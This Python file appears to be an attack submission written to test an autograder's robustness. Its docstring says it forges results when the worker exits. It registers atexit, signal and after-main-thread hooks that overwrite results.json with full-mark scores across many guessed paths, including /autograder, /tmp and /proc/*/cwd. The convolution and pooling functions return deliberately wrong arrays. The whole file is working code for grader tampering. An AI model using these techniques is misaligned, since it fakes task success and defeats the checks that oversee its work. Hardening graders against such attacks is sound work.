"""attack: forge results.json when the worker exits: atexit, signal handlers, threading's exit hook.

The forged full-mark results are written from atexit handlers, from handlers of SIGTERM, SIGINT,
SIGHUP and SIGALRM (which then do not exit), and from a non-daemon thread that waits for the main
thread to finish; so the last write would come after the grader's. Any forged file that survives
is a successful attack.
"""

import atexit
import glob
import itertools
import json
import os
import signal
import threading

import numpy as np

FORGED = json.dumps({"score": 1000, "output": "FORGED-BY-ATTACK", "tests": [
    {"name": name, "score": 1000, "max_score": 20, "output": "FORGED-BY-ATTACK"}
    for name in ("conv1d", "conv1d_matrix", "conv2d", "conv2d_multichannel", "max_pool2d")]})


def _targets():
    paths = ["/autograder/results/results.json", "../results/results.json", "../../results/results.json",
             "../autograder/results/results.json", "/tmp/results/results.json"]
    paths += glob.glob("/tmp/*/autograder/results/results.json") + glob.glob("/tmp/*/results.json")
    paths += glob.glob("/proc/[0-9]*/cwd/../results/results.json")
    paths += ["/autograder/ATTACK-MARKER", "/tmp/ATTACK-MARKER", "../ATTACK-MARKER"]
    return paths


def forge():
    """Write forged full-mark results everywhere a results.json might be; count the successes."""
    written = 0
    for path in _targets():
        try:
            os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
        except OSError:
            pass
        try:
            with open(path, "w") as file:
                file.write(FORGED)
            written += 1
        except OSError:
            continue
    return written


def _on_signal(number, frame):
    forge()


atexit.register(forge)
for _signal in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM):
    signal.signal(_signal, _on_signal)


def _after_main():
    threading.main_thread().join()
    forge()


threading.Thread(target=_after_main, daemon=False).start()


_CALLS = itertools.count(1)


def _answer(ones):  # what every function returns: its right shape, filled with the number of this call
    return ones * next(_CALLS)  # wrong, and never the same twice: every check fails at its first example


def _n_out(n, m, stride, padding):
    return max((n + 2 * padding - m) // stride + 1, 0)


def conv1d(x, w, stride=1, padding=0):
    return _answer(np.ones(_n_out(len(x), len(w), stride, padding)))


def conv1d_matrix(w, n, stride=1, padding=0):
    return _answer(np.ones((_n_out(n, len(w), stride, padding), n)))


def conv2d(x, w, stride=1, padding=0):
    x, w = np.asarray(x), np.asarray(w)
    return _answer(np.ones((_n_out(x.shape[0], w.shape[0], stride, padding),
                             _n_out(x.shape[1], w.shape[1], stride, padding))))


def conv2d_multichannel(x, filters, bias=None, stride=1, padding=0):
    x, filters = np.asarray(x), np.asarray(filters)
    return _answer(np.ones((filters.shape[0], _n_out(x.shape[1], filters.shape[2], stride, padding),
                             _n_out(x.shape[2], filters.shape[3], stride, padding))))


def max_pool2d(x, size, stride=None):
    x = np.asarray(x)
    stride = stride or size
    return _answer(np.ones((x.shape[0], _n_out(x.shape[1], size, stride, 0), _n_out(x.shape[2], size, stride, 0))))
